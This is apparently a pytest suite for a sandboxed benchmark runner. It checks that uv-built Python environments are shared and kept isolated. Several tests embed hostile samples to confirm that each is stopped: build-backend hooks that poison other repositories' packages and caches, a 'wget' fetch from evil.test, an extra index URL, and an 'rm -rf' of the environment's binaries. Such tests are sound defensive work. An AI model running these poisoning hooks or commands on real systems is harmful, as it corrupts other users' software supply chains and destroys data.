"""Environments from small wheels made on the spot, by real uv in a real sandbox."""

import hashlib
import os
import threading
import time

import pytest

from sotabench.errors import Broken, Failed
from sotabench.runner.egress import Rules
from sotabench.runner.environment import make_environment, run_setup
from sotabench.runner.package_index import PackageIndex
from sotabench.runner.sandbox import Limits, Mount, Task, Trusted
from sotabench.runner.shared_environments import sweep_environments
from sotabench.runner.workplace import REPOSITORY

from .conftest import OTHER_SLOT, OWN

LIMITS = Limits(seconds=120, memory=4 << 30, disk=1 << 30, files=10_000, processes=64, file_size=1 << 30)
PROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""
# A whole build backend: strangers' code that uv runs when it is asked for ./pkg.
BACKEND = """
import base64, hashlib, os, zipfile
def build_wheel(target, config_settings=None, metadata_directory=None):
    {attack}
    files = {{"pkg.py": {text!r}, "pkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: pkg\\nVersion: 1.0\\n",
              "pkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}}
    files["pkg-1.0.dist-info/RECORD"] = "".join(f"{{name}},,\\n" for name in files)
    with zipfile.ZipFile(os.path.join(target, "pkg-1.0-py3-none-any.whl"), "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return "pkg-1.0-py3-none-any.whl"
"""


def package(text="VALUE = 1\n", attack="pass"):
    return {
        "requirements.txt": "./pkg\n",
        "pkg/pyproject.toml": PROJECT,
        "pkg/backend.py": BACKEND.format(text=text, attack=attack),
        "pkg/setup.py": "",
    }


def python(workplace, environment, code):
    """What the build's own interpreter prints."""
    printed = bytearray()
    outcome = workplace.sandbox.run(
        Task(
            command=[environment.python, "-c", code],
            folder=REPOSITORY,
            mounts=[*environment.mounts, Mount(workplace.repository, REPOSITORY, writable=True)],
            environment=environment.variables,
            limits=LIMITS,
        ),
        output=printed.extend,
        stop=threading.Event(),
    )
    assert outcome.well, printed.decode()
    return printed.decode().strip()


def test_plain_requirements_give_a_shared_environment(checked_out, make_wheel, store):
    make_wheel("small", "1.5", requires=["other>=1"])
    make_wheel("other", "2.0")
    workplace = checked_out({"requirements.txt": "small==1.5\n"})
    environment = make_environment(workplace, store)
    assert environment.is_shared
    assert {"small==1.5", "other==2.0"} < set(environment.lock)
    assert f"torch=={workplace.base.held['torch']}" in environment.lock
    assert environment.key == hashlib.sha256("\n".join(environment.lock).encode()).hexdigest()
    assert python(workplace, environment, "import small, other; print(small.VERSION, other.VERSION)") == "1.5 2.0"


def test_same_lock_is_one_environment_whatever_the_requirements_say(new_workplace, checked_out, make_wheel, store, log):
    make_wheel("small", "1.5")
    first = make_environment(checked_out({"requirements.txt": "small\n"}), store)
    second = make_environment(checked_out({"requirements.txt": "small>=1  # any\n"}, new_workplace("b")), store)
    assert second.folder == first.folder
    assert log.lines.count("A shared environment is made for these requirements") == 1


def test_unchanged_requirements_start_nothing(new_workplace, checked_out, make_wheel, store, log, say):
    make_wheel("small")
    make_environment(checked_out({"requirements.txt": "small\n"}), store)
    log.printed.clear()
    again = checked_out({"requirements.txt": "small\n"}, new_workplace("b", sandbox=None, proxy=None))
    began = time.perf_counter()
    assert make_environment(again, store).is_shared
    say(f"environment, unchanged requirements: {(time.perf_counter() - began) * 1000:.1f} ms")
    assert log.printed == b""


def test_platforms_own_packages_win_and_the_log_says_so(checked_out, make_wheel, store, log):
    make_wheel("small", requires=["torch==1.4.0", "numpy<1.17"])
    asked = "torch==1.4.0\ntorchbench\nNumPy==1.16\nsotabencheval==0.0.1\nsmall\n"
    workplace = checked_out({"requirements.txt": asked})
    environment = make_environment(workplace, store)
    held = workplace.base.held
    assert environment.is_shared
    for line in (f"torch=={held['torch']}", f"numpy=={held['numpy']}", f"pillow=={held['pillow']}"):
        assert line in environment.lock
    assert f"torch==1.4.0 in requirements.txt: the platform's own torch {held['torch']} is used" in log.lines
    assert f"NumPy==1.16 in requirements.txt: the platform's own numpy {held['numpy']} is used" in log.lines
    assert python(workplace, environment, "import numpy; print(numpy.__version__)") == held["numpy"]


def test_requirements_that_cannot_be_had_fail_in_uvs_own_words(checked_out, store):
    with pytest.raises(Failed, match="(?s)requirements.txt cannot be installed: .*nowhere-to-be-found"):
        make_environment(checked_out({"requirements.txt": "nowhere-to-be-found==3\n"}), store)


def test_index_that_does_not_answer_is_not_the_repositorys_fault(new_workplace, checked_out, store):
    index = PackageIndex({"UV_DEFAULT_INDEX": "https://index.test/simple", "UV_HTTP_RETRIES": "0"}, (), Rules())
    with pytest.raises(Broken, match="the package index does not answer"):
        make_environment(checked_out({"requirements.txt": "small\n"}, new_workplace("silent", index=index)), store)


def test_requirements_that_name_what_silent_indexes_are_told_by_are_the_repositorys_fault(checked_out, store, log):
    line = 'small===1.0-x; python_version == "tunnel error"'
    with pytest.raises(Failed, match="requirements.txt cannot be installed"):
        make_environment(checked_out({"requirements.txt": f"{line}\n"}), store)
    assert "not part of a valid version" in log.text


def test_nobody_can_write_a_shared_environment(checked_out, make_wheel, store):
    make_wheel("small")
    workplace = checked_out({"requirements.txt": "small\n"})
    environment = make_environment(workplace, store)
    code = "import small; open(small.__file__, 'w')"
    printed = python(
        workplace,
        environment,
        f"""
try:
    {code}
except OSError as error:
    print(error.strerror)
""",
    )
    assert printed == "Read-only file system"
    for path in environment.folder.rglob("*"):
        if not path.is_symlink():
            assert not path.stat().st_mode & 0o222
            assert os.geteuid() != 0 or path.stat().st_uid == 0


def test_base_is_seen_without_labels(checked_out, store):
    workplace = checked_out({"requirements.txt": ""})
    environment = make_environment(workplace, store)
    code = "import os, torchbench; print(*sorted(os.listdir(os.path.dirname(torchbench.__file__) + '/dataset/tables')))"
    assert python(workplace, environment, code).split() == ["imagenet_a_and_r_classes.csv", "imagenet_classes.csv"]


def test_without_isolation_the_same_environment_serves(new_workplace, checked_out, make_wheel, store, log):
    make_wheel("small")
    isolated = checked_out({"requirements.txt": "small\n"})
    environment = make_environment(isolated, store)
    trusting = checked_out({"requirements.txt": "small\n"}, new_workplace("b", slot=OWN, sandbox=Trusted(OWN)))
    assert make_environment(trusting, store) == environment
    code = "import small, sotabench_inside, torchbench; print(small.VERSION)"
    assert python(trusting, environment, code) == "1.0"
    own = checked_out(package(), new_workplace("c", slot=OWN, sandbox=Trusted(OWN)))
    assert python(own, make_environment(own, store), "import pkg, sotabench_inside; print(pkg.VALUE)") == "1"


def test_package_of_the_repository_itself_is_its_own(new_workplace, checked_out, store, say):
    places = [checked_out(package(f"VALUE = {number}\n"), new_workplace(str(number))) for number in (1, 2)]
    environments = [make_environment(place, store) for place in places]
    values = [python(*pair, "import pkg; print(pkg.VALUE)") for pair in zip(places, environments, strict=True)]
    assert values == ["1", "2"]
    assert not any(environment.is_shared for environment in environments)
    assert not list((store / "environments").glob("*/environment")) if (store / "environments").exists() else True
    say("./pkg in two repositories: stopped, paths give private environments")


def test_build_hook_reaches_no_other_environment_or_cache(new_workplace, checked_out, make_wheel, store, say):
    make_wheel("small")
    victim = checked_out({"requirements.txt": "small\n"}, new_workplace("victim"))
    shared = make_environment(victim, store)
    attack = f"""
    import sys
    for top in ({str(store)!r}, {str(victim.folder)!r}, {str(victim.kept)!r}, {str(victim.base.packages[0])!r}):
        for folder, _, names in os.walk(top):
            for name in names:
                if name.endswith(".py"):
                    try:
                        open(os.path.join(folder, name), "a").write("VERSION = 'poisoned'")
                        print("wrote", name)
                    except OSError:
                        pass
                    break
            if top != {str(victim.base.packages[0])!r}: continue
            break
"""
    attacker = checked_out(package(attack=attack), new_workplace("attacker"))
    environment = make_environment(attacker, store)
    assert python(attacker, environment, "import pkg; print(pkg.VALUE)") == "1"
    assert python(victim, shared, "import small; print(small.VERSION)") == "1.0"
    say("build hook that edits site-packages and caches: stopped, only its own build's folders are mounted writable")


def test_poisoned_cache_stays_with_its_repository(new_workplace, checked_out, make_wheel, store, log, say):
    make_wheel("small")
    spoil = """
    for folder, _, names in os.walk("/work/uv/cache"):
        for name in names:
            if name == "small.py":
                path = os.path.join(folder, name)
                os.chmod(path, 0o644)
                open(path, "w").write("VERSION = 'poisoned'")
                print("spoilt")
"""
    files = package(attack=spoil) | {"requirements.txt": "small\n./pkg\n"}
    attacker = checked_out(files, new_workplace("attacker"))
    make_environment(attacker, store)
    checked_out({"pkg/setup.py": "# another state, so built anew"}, attacker)
    environment = make_environment(attacker, store)  # now the cache holds it already, and is spoilt before it is used
    cached = list(attacker.kept.rglob("small.py"))
    assert "poisoned" in cached[0].read_text()
    assert python(attacker, environment, "import small; print(small.VERSION)") == "poisoned"
    victim = checked_out({"requirements.txt": "small\n"}, new_workplace("victim"))
    assert python(victim, make_environment(victim, store), "import small; print(small.VERSION)") == "1.0"
    say("poisoned cache: stopped, each repository has its own and shared environments are filled from none")


def test_editing_an_installed_file_leaves_the_cache_alone(checked_out, make_wheel, store, say):
    make_wheel("small")
    files = package() | {
        "requirements.txt": "small\n./pkg\n",
        "sotabench_setup.sh": "echo \"VERSION = 'edited'\" > /work/environment/lib/python3*/site-packages/small.py\n",
    }
    workplace = checked_out(files)
    environment = run_setup(workplace, make_environment(workplace, store))
    assert python(workplace, environment, "import small; print(small.VERSION)") == "edited"
    assert all("edited" not in path.read_text() for path in workplace.kept.rglob("small.py"))
    say("hard-linked cache poisoning: stopped, uv copies (UV_LINK_MODE=copy)")


def test_repositorys_own_uv_settings_are_not_obeyed(checked_out, make_wheel, wheels, store, say):
    evil = wheels.parent / "evil"
    evil.mkdir()
    make_wheel("small", "9.9", folder=evil)
    make_wheel("small", "1.0")
    settings = f'find-links = ["{REPOSITORY}/evil"]\n[pip]\nfind-links = ["{REPOSITORY}/evil"]\n'
    files = {"requirements.txt": "small\n", "uv.toml": settings, "pyproject.toml": f"[tool.uv.pip]\n{settings}"}
    workplace = checked_out(files)
    (workplace.repository / "evil").mkdir()
    for path in evil.iterdir():
        (workplace.repository / "evil" / path.name).write_bytes(path.read_bytes())
    workplace.give(workplace.repository)
    assert "small==1.0" in make_environment(workplace, store).lock
    say("uv.toml in a repository: stopped, --no-config and a folder that is not the repository")


def test_index_in_the_requirements_is_reached_only_through_the_proxy(checked_out, store, host, log, say):
    address = f"https://127.0.0.1:{host.server_port}/simple"
    text = f"--index-url {address}\n--extra-index-url https://evil.test:{host.server_port}/simple\nsmall\n"
    with pytest.raises(Failed, match="cannot be installed"):
        make_environment(checked_out({"requirements.txt": text}), store)
    assert host.asked == []
    assert "An environment of this build alone" in log.text
    say("--index-url in requirements.txt: stopped, the proxy lists the machine's own index alone")


def test_setup_script_changes_checkout_home_and_environment_of_its_build_alone(
    new_workplace, checked_out, make_wheel, store, log
):
    make_wheel("small")
    make_wheel("later", "3.0")
    make_wheel("torch", "1.0")
    script = "set -e\npip install --user later torch==1.0\necho made > model.txt\necho kept > ~/file\n"
    files = {"requirements.txt": "small\n", "sotabench_setup.sh": script}
    workplace = checked_out(files)
    before = make_environment(workplace, store)
    after = run_setup(workplace, before)
    assert not before.is_shared
    assert set(after.lock) - set(before.lock) == {"later==3.0"}
    assert after.key != before.key
    assert (workplace.repository / "model.txt").read_text() == "made\n"
    assert (workplace.home / "file").read_text() == "kept\n"
    plain = checked_out({"requirements.txt": "small\n"}, new_workplace("b"))
    assert "later==3.0" not in make_environment(plain, store).lock


def test_wheel_of_folders_as_deep_as_may_be_is_copied_for_a_setup_script(checked_out, make_wheel, store):
    inner = "/".join(480 * "d")
    make_wheel("small", further={f"small_/{inner}/end.txt": "here"})
    workplace = checked_out({"requirements.txt": "small\n", "sotabench_setup.sh": "true\n"})
    environment = make_environment(workplace, store)
    (packages,) = environment.folder.glob("lib/python3*/site-packages")
    assert (packages / "small_" / inner / "end.txt").read_text() == "here"
    assert run_setup(workplace, environment).lock == environment.lock


def test_line_of_what_the_platform_holds_with_a_digest_behind_a_tab_is_said(checked_out, store, log):
    asked = f"torch==1.4.0\t--hash=sha256:{64 * '0'}"
    assert make_environment(checked_out({"requirements.txt": f"{asked}\n"}), store).is_shared
    assert any("the platform's own torch" in line for line in log.lines)


def test_setup_script_that_fails_fails_the_build(checked_out, store):
    workplace = checked_out({"requirements.txt": "", "sotabench_setup.sh": "exit 7\n"})
    environment = make_environment(workplace, store)
    with pytest.raises(Failed, match="sotabench_setup.sh ended with exit code 7"):
        run_setup(workplace, environment)


FETCHES = "wget -q -T 5 -t 1 https://evil.test/devkit.tar.gz -P ./.data"


def test_setup_script_that_fails_for_want_of_a_host_does_not_fail_the_build(checked_out, make_wheel, store, log):
    make_wheel("later", "3.0")
    workplace = checked_out({"requirements.txt": "", "sotabench_setup.sh": f"pip install later\n{FETCHES}\n"})
    environment = run_setup(workplace, make_environment(workplace, store))
    assert "later==3.0" in environment.lock
    assert environment.setup.endswith("SOTABENCH_SETUP_HOSTS of this runner does not list evil.test")
    assert environment.setup in log.text
    assert not run_setup(checked_out({"sotabench_setup.sh": "true\n"}), environment).setup


def test_setup_script_that_is_refused_a_host_and_takes_the_platforms_list_away_fails_the_build(checked_out, store):
    script = f"{FETCHES}\nrm -rf /work/environment/bin/*\n"
    workplace = checked_out({"requirements.txt": "", "sotabench_setup.sh": script})
    environment = make_environment(workplace, store)
    with pytest.raises(Failed, match="uv wrote no list|ended with exit code"):
        run_setup(workplace, environment)


def test_two_builds_make_a_shared_environment_once(new_workplace, checked_out, make_wheel, store, log):
    make_wheel("small")
    places = [
        checked_out({"requirements.txt": "small\n"}, new_workplace("a")),
        checked_out({"requirements.txt": "small\n"}, new_workplace("b", slot=OTHER_SLOT)),
    ]
    found = []
    threads = [threading.Thread(target=lambda at=at: found.append(make_environment(at, store))) for at in places]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len({environment.folder for environment in found}) == 1
    assert log.lines.count("A shared environment is made for these requirements") == 1


def test_what_a_killed_maker_left_is_made_anew(checked_out, make_wheel, store):
    make_wheel("small")
    workplace = checked_out({"requirements.txt": "small\n"})
    first = make_environment(workplace, store)
    place = first.folder.parent
    place.rename(place.with_name(f"{place.name}.making"))
    (place.with_name(f"{place.name}.making") / "frozen.json").unlink()
    second = make_environment(workplace, store)
    assert second.folder == first.folder
    assert python(workplace, second, "import small; print(small.VERSION)") == "1.0"
    assert not place.with_name(f"{place.name}.making").exists()


@pytest.mark.parametrize("left", [b"", b'["small==', b"null", None], ids=["empty", "half", "other", "none"])
def test_environment_that_a_power_cut_left_half_written_is_made_anew(
    left, new_workplace, checked_out, make_wheel, store, log
):
    make_wheel("small")
    first = make_environment(checked_out({"requirements.txt": "small\n"}), store)
    frozen = first.folder.parent / "frozen.json"
    (first.folder / "bin" / "python").unlink()
    if left is None:
        frozen.unlink()
    else:
        frozen.write_bytes(left)
    again = checked_out({"requirements.txt": "small\n"}, new_workplace("b"))
    second = make_environment(again, store)
    assert second == first
    assert python(again, second, "import small; print(small.VERSION)") == "1.0"
    assert log.lines.count("A shared environment is made for these requirements") == 2


def test_environments_that_nobody_used_for_days_are_removed(new_workplace, checked_out, make_wheel, store):
    make_wheel("small")
    make_wheel("other")
    old = make_environment(checked_out({"requirements.txt": "small\n"}), store)
    new = make_environment(checked_out({"requirements.txt": "other\n"}, new_workplace("b")), store)
    long_ago = time.time() - 40 * 86400
    os.utime(old.folder.parent / "used", (long_ago, long_ago))
    assert sweep_environments(store, 30) == 1
    assert not old.folder.exists()
    assert new.folder.exists()
    assert make_environment(checked_out({"requirements.txt": "small\n"}, new_workplace("c")), store).folder.exists()
